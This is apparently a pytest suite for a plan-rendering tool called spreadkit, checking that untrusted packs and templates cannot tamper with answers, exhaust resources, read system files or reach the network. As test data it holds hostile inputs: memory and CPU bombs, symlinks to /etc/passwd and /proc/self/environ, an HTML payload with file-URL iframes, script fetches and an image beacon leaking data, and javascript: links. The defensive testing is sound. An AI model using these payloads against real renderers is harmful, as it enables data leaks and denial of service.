"""Shared packs and templates are untrusted: they read answers without changing them, stay
within bounds, read no file outside their folder, and make plans that reach nothing."""

from __future__ import annotations

import dataclasses
import http.server
import os
import shutil
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml

from spreadkit.answers.loading import read_answers
from spreadkit.answers.store import Answers
from spreadkit.app.planning import PlanOptions, run_plan
from spreadkit.core.errors import SpreadkitError
from spreadkit.core.formats import DocumentKind, PlanFormat
from spreadkit.framework import conditions, limits, packs
from spreadkit.framework.model import Framework
from spreadkit.plan.output import pdf
from spreadkit.plan.output.render import render_plan
from spreadkit.plan.output.safety import CSP_META, HEAD_METAS, LEAD, safe_url, with_policy

from .conftest import EXAMPLE_ANSWERS, EXAMPLES, Cli
from .scripted import ScriptedPrompter
from .scripted import terminal_env as _env

PACK = EXAMPLES / "sw-network-pack"
WHERE = "pack.yml:3"

# -- expressions: read-only ---------------------------------------------------------------------

TAMPER = "plan.update({'title': 'PWNED'}) or answers.implement.actions.clear() or true"


def _pack_with_condition(tmp_path: Path, when: str) -> Path:
    pack = tmp_path / "pack"
    shutil.copytree(PACK, pack)
    funding = pack / "step-04-funding.yml"
    data = yaml.safe_load(funding.read_text(encoding="utf-8"))
    data["questions"][1]["when"] = when
    funding.write_text(yaml.safe_dump(data), encoding="utf-8")
    return pack


def test_an_expression_cannot_change_the_answers_it_reads() -> None:
    actions = [{"action": "Recruit"}]
    answers = {"implement": {"actions": actions}}
    plan = {"title": "Ours"}
    with pytest.raises(SpreadkitError, match="unsafe"):
        conditions.evaluate(TAMPER, {"answers": answers, "plan": plan}, WHERE)
    assert plan == {"title": "Ours"} and actions == [{"action": "Recruit"}]


def test_a_pack_condition_cannot_change_the_saved_answers(cli: Cli, tmp_path: Path) -> None:
    pack = _pack_with_condition(tmp_path, TAMPER)
    assert cli("content", "check", str(pack)).exit_code == 0  # it compiles; running it fails
    answers = tmp_path / "sw.answers.yml"
    shutil.copy(EXAMPLE_ANSWERS, answers)
    env = _env()
    env.content = pack
    with pytest.raises(SpreadkitError, match=r"step-04-funding.yml:\d+: .*unsafe"):
        run_plan(
            env,
            PlanOptions(answers, None, (PlanFormat.MARKDOWN,), only_new=True),
            lambda: ScriptedPrompter([("Where will the money", ["trust"])]),
        )
    saved = read_answers(answers, packs.load(pack))
    assert saved.details["title"] != "PWNED"
    assert saved.get("implement", "actions") == read_answers(EXAMPLE_ANSWERS, packs.load(None)).get(
        "implement", "actions"
    )


def test_render_with_a_tampering_pack_is_a_clean_error(cli: Cli, tmp_path: Path) -> None:
    pack = _pack_with_condition(tmp_path, TAMPER)
    answers = tmp_path / "sw.answers.yml"
    shutil.copy(EXAMPLE_ANSWERS, answers)
    before = answers.read_bytes()
    result = cli("render", "--document", "workbook", str(answers), "--content", str(pack))
    assert result.exit_code == 1 and "step-04-funding.yml:" in result.stderr
    assert "unsafe" in result.stderr and answers.read_bytes() == before


def test_a_template_cannot_change_a_list_or_dict(cli: Cli, tmp_path: Path) -> None:
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / "plan.md.j2").write_text(
        "{% set d = {'a': 1} %}{{ d.update({'b': 2}) }}{{ d }}", encoding="utf-8"
    )
    result = cli(
        "render", "--document", "workbook", str(EXAMPLE_ANSWERS), "--template", str(folder)
    )
    assert result.exit_code == 1 and "may not do" in result.stderr


# -- expressions and templates: bounded ---------------------------------------------------------

HOSTILE_EXPRESSIONS = [
    "(7 ** (7 ** 9)) > 0",
    "'a' * 10**9",
    "[1] * 10**8",
    "(10 ** 9000) * (10 ** 9000) * (10 ** 9000) * (10 ** 9000)",
    "lipsum(100000)",
    "'%999999999d' % 1",
    "'{:>999999999}'.format(1)",
    "'{:>{w}}'.format(1, w=10)",
    "'a'.center(999999999)",
    "'a'|center(999999999)",
    "'%*d'|format(999999999, 1)",
    "('x' * 900000) ~ ('x' * 900000)",
    "('x' * 900000) + ('x' * 900000)",
    "'aaaaa'" + "|replace('a', 'aaaaa')" * 12,
    "(range(100000)|list) * 20",
    "range(100000)|map('center', 1000000)|join|length",
    "''.join(range(100000)|map('center', 1000000))|length",
    "range(100000)|map('center', 1000000)|list|length",
    "range(100000)|map('center', 1000000)|sum",
]


@pytest.mark.parametrize("expression", HOSTILE_EXPRESSIONS)
def test_a_hostile_expression_is_a_clear_error(expression: str) -> None:
    assert conditions.syntax_error(expression) is None  # compiling never folds the bomb
    with pytest.raises(SpreadkitError) as caught:
        conditions.evaluate(expression, {"answers": {}, "plan": {}}, WHERE)
    assert str(caught.value).startswith(f"{WHERE}: ")


def test_a_lazy_map_of_large_texts_is_stopped_early(cli: Cli, tmp_path: Path) -> None:
    pack = _pack_with_condition(tmp_path, 'range(100000)|map("center", 1000000)|join|length')
    result = cli("render", "--document", "workbook", str(EXAMPLE_ANSWERS), "--content", str(pack))
    assert result.exit_code == 1
    assert "step-04-funding.yml:" in result.stderr and "unexpected" not in result.stderr
    assert "could not be worked out: " in result.stderr
    assert result.stderr.split("could not be worked out: ")[1].strip()  # a reason is given


WORK_BOMBS = [
    "{% for i in range(1000) %}{% for j in range(999) %}{% if [0]*499999 %}{% endif %}"
    "{% endfor %}{% endfor %}",
    "{% for i in range(1000) %}{% for j in range(999) %}{% if 'x' * 999999 %}{% endif %}"
    "{% endfor %}{% endfor %}",
    "{% for i in range(100000) %}{% if (i|string).center(999999) %}{% endif %}{% endfor %}",
]


@pytest.mark.parametrize("template", WORK_BOMBS)
def test_building_large_values_again_and_again_is_stopped(
    cli: Cli, tmp_path: Path, template: str
) -> None:
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / "plan.md.j2").write_text(template, encoding="utf-8")
    result = cli(
        "render", "--document", "workbook", str(EXAMPLE_ANSWERS), "--template", str(folder)
    )
    assert result.exit_code == 1
    assert "does too much" in result.stderr and "plan.md.j2" in result.stderr


def test_running_out_of_memory_is_the_users_error(
    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = limits._work

    def exhausted(count: int) -> None:
        if count == 12345:  # only the value this test builds
            raise MemoryError
        real(count)

    monkeypatch.setattr(limits, "_work", exhausted)
    with pytest.raises(SpreadkitError) as caught:
        conditions.evaluate("'x' * 12345", {"answers": {}, "plan": {}}, WHERE)
    assert str(caught.value).endswith("it ran out of memory")
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / "plan.md.j2").write_text("{{ 'x' * 12345 }}", encoding="utf-8")
    result = cli(
        "render", "--document", "workbook", str(EXAMPLE_ANSWERS), "--template", str(folder)
    )
    assert result.exit_code == 1
    assert "plan.md.j2" in result.stderr and "memory" in result.stderr
    assert "unexpected" not in result.stderr


def test_content_check_does_not_hang_on_a_power_bomb(cli: Cli, tmp_path: Path) -> None:
    pack = _pack_with_condition(tmp_path, "(7 ** (7 ** 9)) > 0")
    assert cli("content", "check", str(pack)).exit_code == 0
    result = cli("render", "--document", "workbook", str(EXAMPLE_ANSWERS), "--content", str(pack))
    assert result.exit_code == 1
    assert "step-04-funding.yml:" in result.stderr and "bits" in result.stderr


def test_ordinary_expressions_still_work() -> None:
    context = {"answers": {"analyse": {"n": 3}}, "plan": {"title": "T"}, "rows": [{"a": "x"}]}
    assert conditions.evaluate("answers.analyse.n * 2 ** 3 + 1 == 25", context)
    assert conditions.evaluate("('%.1f' % 2.25) ~ '|' ~ 'ab' * 2 == '2.2|abab'", context)
    assert conditions.evaluate("(rows | top_share('a')).count == 1", context)
    assert conditions.evaluate("range(10) | map('string') | join | length == 10", context)


HOSTILE_TEMPLATES = {
    "{{ 'A' * 10**9 }}": "characters",
    "x\n{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}": "steps",
    "{{ lipsum(100000) }}": "undefined",
    "{% set ns = namespace(s='ab') %}{% for i in range(64) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}": "characters",
    "{% for i in range(100000) %}" + "x" * 300 + "{% endfor %}": "characters",
    "{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}\n{{ f(0) }}": "calls itself",
    "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(40) }}": "steps",
    "top\n{% include 'plan.md.j2' %}": "calls itself",
    "{{ 1 / 0 }}": "ZeroDivisionError",
    "one\n{{ no_such_thing }}": "undefined",
}


@pytest.mark.parametrize("template", list(HOSTILE_TEMPLATES))
def test_a_hostile_or_broken_template_is_the_users_error(
    cli: Cli, tmp_path: Path, template: str
) -> None:
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / "plan.md.j2").write_text(template, encoding="utf-8")
    result = cli(
        "render", "--document", "workbook", str(EXAMPLE_ANSWERS), "--template", str(folder)
    )
    assert result.exit_code == 1, result.output
    assert result.stderr.startswith(f"error: {folder / 'plan.md.j2'}:"), result.stderr
    assert HOSTILE_TEMPLATES[template] in result.stderr
    assert "unexpected" not in result.stderr and len(result.stderr.splitlines()) == 1


def test_an_undefined_variable_names_its_line(cli: Cli, tmp_path: Path) -> None:
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / "plan.md.j2").write_text("one\ntwo\n{{ plan.no_such_part }}\n", encoding="utf-8")
    result = cli(
        "render", "--document", "workbook", str(EXAMPLE_ANSWERS), "--template", str(folder)
    )
    assert result.exit_code == 1
    assert f"{folder / 'plan.md.j2'}:3: template error" in result.stderr


def test_a_template_that_is_not_utf8_is_the_users_error(cli: Cli, tmp_path: Path) -> None:
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / "plan.md.j2").write_bytes("# {{ plan.title }} caf\u00e9\n".encode("latin-1"))
    result = cli(
        "render", "--document", "workbook", str(EXAMPLE_ANSWERS), "--template", str(folder)
    )
    assert result.exit_code == 1
    assert "plan.md.j2" in result.stderr and "not UTF-8" in result.stderr
    assert "unexpected" not in result.stderr


def test_a_copy_of_the_built_in_templates_renders_the_same(cli: Cli, tmp_path: Path) -> None:
    folder = tmp_path / "templates"
    assert cli("templates", "export", str(folder)).exit_code == 0
    for plan_format in ("md", "html"):
        ours = cli(
            "render", "--document", "workbook", str(EXAMPLE_ANSWERS), "--format", plan_format
        )
        theirs = cli(
            "render",
            "--document",
            "workbook",
            str(EXAMPLE_ANSWERS),
            "--format",
            plan_format,
            "--template",
            str(folder),
        )
        assert theirs.exit_code == 0 and theirs.stdout == ours.stdout


# -- template folders: no symbolic links --------------------------------------------------------


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="needs symbolic links")
@pytest.mark.parametrize(
    ("files", "links", "plan_format"),
    [
        ({}, {"plan.css": "/proc/self/environ"}, "html"),
        ({"plan.md.j2": "{% include 'leak.txt' %}"}, {"leak.txt": "/etc/passwd"}, "md"),
        ({"plan.md.j2": "{% include 'root/etc/passwd' %}"}, {"root": "/"}, "md"),
        ({}, {"plan.md.j2": "/etc/passwd"}, "md"),
    ],
    ids=["css-to-environ", "include-to-passwd", "folder-to-root", "template-itself"],
)
def test_symbolic_links_in_a_template_folder_are_refused(
    cli: Cli, tmp_path: Path, files: dict[str, str], links: dict[str, str], plan_format: str
) -> None:
    folder = tmp_path / "templates"
    folder.mkdir()
    for name, text in files.items():
        (folder / name).write_text(text, encoding="utf-8")
    for name, target in links.items():
        (folder / name).symlink_to(target)
    result = cli(
        "render",
        "--document",
        "workbook",
        str(EXAMPLE_ANSWERS),
        "--format",
        plan_format,
        "--template",
        str(folder),
    )
    assert result.exit_code == 1
    linked = next(iter(links))
    assert f"{folder / linked}: this is a symbolic link" in result.stderr
    assert "root:x:0" not in result.output and "PATH=" not in result.output


def test_a_template_in_a_subfolder_is_still_read(cli: Cli, tmp_path: Path) -> None:
    folder = tmp_path / "templates"
    (folder / "parts").mkdir(parents=True)
    (folder / "parts" / "title.j2").write_text("# {{ plan.title }}!", encoding="utf-8")
    (folder / "plan.md.j2").write_text("{% include 'parts/title.j2' %}", encoding="utf-8")
    result = cli(
        "render", "--document", "workbook", str(EXAMPLE_ANSWERS), "--template", str(folder)
    )
    assert (
        result.exit_code == 0 and result.stdout.startswith("# Spreading") and "!" in result.stdout
    )


# -- HTML: a Content-Security-Policy, whatever the template -------------------------------------

HOSTILE_HTML = (
    '<iframe src="file:///etc/passwd"></iframe>\n'
    '<img src="http://127.0.0.1:{port}/leak?t={{{{ plan.title | urlencode }}}}">\n'
    '<link rel="stylesheet" href="http://127.0.0.1:{port}/css">\n'
    '<p style="background: url(http://127.0.0.1:{port}/bg)">styled</p>\n'
    '<script>fetch("http://127.0.0.1:{port}/fetch"); document.write("SCRIPT RAN")</script>\n'
    '<meta http-equiv="refresh" content="0; url=file:///etc/passwd">\n'
    "<h1>{{{{ plan.title }}}}</h1>\n"
)


# A ">" inside a quoted attribute of <head> once hid the policy inside that attribute.
HIDING_HEAD = '<!DOCTYPE html>\n<html><head data-x=">">\n<title>t</title>\n'


def _hostile_templates(folder: Path, port: int, lead: str = "") -> Path:
    folder.mkdir()
    page = lead + HOSTILE_HTML.format(port=port)
    (folder / "plan.html.j2").write_text(page, encoding="utf-8")
    return folder


def test_every_html_plan_starts_with_the_policy(cli: Cli, tmp_path: Path) -> None:
    folder = _hostile_templates(tmp_path / "templates", 9)
    custom = cli(
        "render",
        "--document",
        "workbook",
        str(EXAMPLE_ANSWERS),
        "--format",
        "html",
        "--template",
        str(folder),
    )
    assert custom.exit_code == 0
    assert custom.stdout.startswith(LEAD)  # before the iframe, the image and the script
    assert "refresh" not in custom.stdout
    built_in = cli(
        "render", "--document", "workbook", str(EXAMPLE_ANSWERS), "--format", "html"
    ).stdout
    # A plain opening gets the policy as the first thing in its <head>: valid HTML, same bytes first
    opening = '<!DOCTYPE html>\n<html lang="en-GB">\n<head>\n'
    assert built_in.startswith(opening + HEAD_METAS) and built_in.lower().count("<!doctype") == 1
    policy = CSP_META.split('content="')[1]
    assert "default-src 'none'" in policy and "script-src 'none'" in policy
    assert "frame-src 'none'" in policy and "img-src data:;" in policy


def test_the_policy_is_added_once_and_refreshes_are_removed() -> None:
    page = '<!DOCTYPE html>\n<html><head><META HTTP-EQUIV="Refresh" content="0;url=x"></head>'
    once = with_policy(page)
    assert with_policy(once) == once and once.count(CSP_META) == 1
    assert "Refresh" not in once and once.startswith(
        f"<!DOCTYPE html>\n<html>\n<head>\n{HEAD_METAS}"
    )
    assert once.lower().count("<!doctype") == 1
    # Any opening with more to it than a plain lang still gets the policy before everything
    for opening in (
        '<html lang="en" x>',
        "<html lang='en'>",
        '<html lang="a>b">',
        "<HTML><HEAD x>",
    ):
        assert with_policy(f"<!doctype html>{opening}<head><p>x</p>").startswith(LEAD + "\n")


@pytest.mark.parametrize(
    "lead",
    [HIDING_HEAD, '<head data-x=">">', "<html data-a='>'><head\ndata-x=\">\">", "<!-- <head> -->"],
)
def test_no_tag_of_the_template_can_hide_the_policy(cli: Cli, tmp_path: Path, lead: str) -> None:
    assert with_policy(lead + "<p>x</p>").startswith(LEAD + "\n")
    folder = _hostile_templates(tmp_path / "templates", 9, lead)
    custom = cli(
        "render",
        "--document",
        "workbook",
        str(EXAMPLE_ANSWERS),
        "--format",
        "html",
        "--template",
        str(folder),
    )
    assert custom.exit_code == 0, custom.output
    assert custom.stdout.startswith(LEAD + "\n")  # before any byte the template wrote


@pytest.fixture
def listener() -> Iterator[tuple[int, list[str]]]:
    """A web server on 127.0.0.1 that records every request it gets."""
    seen: list[str] = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], seen
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.skipif(pdf.find_browser() is None, reason="no Chromium, Chrome or Edge installed")
@pytest.mark.parametrize("lead", ["", HIDING_HEAD], ids=["plain", "hiding-head"])
def test_a_hostile_template_printed_to_pdf_reaches_nothing(
    cli: Cli, tmp_path: Path, listener: tuple[int, list[str]], lead: str
) -> None:
    port, seen = listener
    folder = _hostile_templates(tmp_path / "templates", port, lead)
    output = tmp_path / "plan.pdf"
    result = cli(
        "render", str(EXAMPLE_ANSWERS), "-f", "pdf", "-o", str(output), "--template", str(folder)
    )
    assert result.exit_code == 0, result.output
    assert output.read_bytes().startswith(b"%PDF")
    assert seen == []
    if shutil.which("pdftotext"):
        text = subprocess.run(
            ["pdftotext", str(output), "-"], capture_output=True, text=True, check=True
        ).stdout
        assert "Spreading the Assistant" in text  # the page itself printed
        assert "root:" not in text and "SCRIPT RAN" not in text


def test_pdf_printing_blocks_the_network_and_files_by_its_switches() -> None:
    assert any(flag.startswith("--proxy-server=") for flag in pdf.LOCKED_DOWN)
    assert "--proxy-bypass-list=<-loopback>" in pdf.LOCKED_DOWN


# -- links ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "kept"),
    [
        ("https://www.hee.nhs.uk/x?a=1&b=2", True),
        ("http://example.org", True),
        ("mailto:team@nhs.net", True),
        ("javascript:alert(document.domain)", False),
        ("JaVa\tScRiPt:alert(1)", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("file:///etc/passwd", False),
        ("vbscript:x", False),
        ("http:no-slashes", False),
        ('https://x.org/" onmouseover="alert(1)', False),
    ],
)
def test_only_http_https_and_mailto_become_links(url: str, kept: bool) -> None:
    assert (safe_url(url) is not None) == kept


def test_a_pack_link_that_is_not_http_is_shown_as_text(framework: Framework) -> None:
    hostile = dataclasses.replace(framework, link="javascript:alert(document.domain)")
    answers = read_answers(EXAMPLE_ANSWERS, framework)
    html = render_plan(hostile, answers, PlanFormat.HTML, document=DocumentKind.WORKBOOK)
    assert "javascript:alert(document.domain)" in html
    assert 'href="javascript' not in html.lower()
    markdown = render_plan(hostile, answers, PlanFormat.MARKDOWN, document=DocumentKind.WORKBOOK)
    assert "<javascript:" not in markdown and "javascript:alert(document.domain)" in markdown
    fine = render_plan(framework, answers, PlanFormat.HTML, document=DocumentKind.WORKBOOK)
    assert f'<a href="{framework.link}">' in fine


def test_links_and_images_typed_into_answers_stay_text_in_markdown(framework: Framework) -> None:
    typed = "See [the form](javascript:alert(1)) and ![x](http://evil.example/p.png) \\[y](z)"
    answers = Answers.empty(framework).with_value("analyse", "problem", typed)
    answers = answers.with_value(
        "implement", "actions", [{"task": "[go](javascript:x)", "owner": "![i](http://e/i)"}]
    )
    markdown = render_plan(framework, answers, PlanFormat.MARKDOWN, document=DocumentKind.WORKBOOK)
    assert "](javascript" not in markdown.replace("\\](javascript", "")
    assert "\\[the form\\](javascript:alert(1))" in markdown
    assert "!\\[x\\](http://evil.example/p.png)" in markdown
    assert "\\\\\\[y\\](z)" in markdown  # a typed backslash cannot undo the escape
    assert "\\[go\\](javascript:x)" in markdown and "!\\[i\\](http://e/i)" in markdown
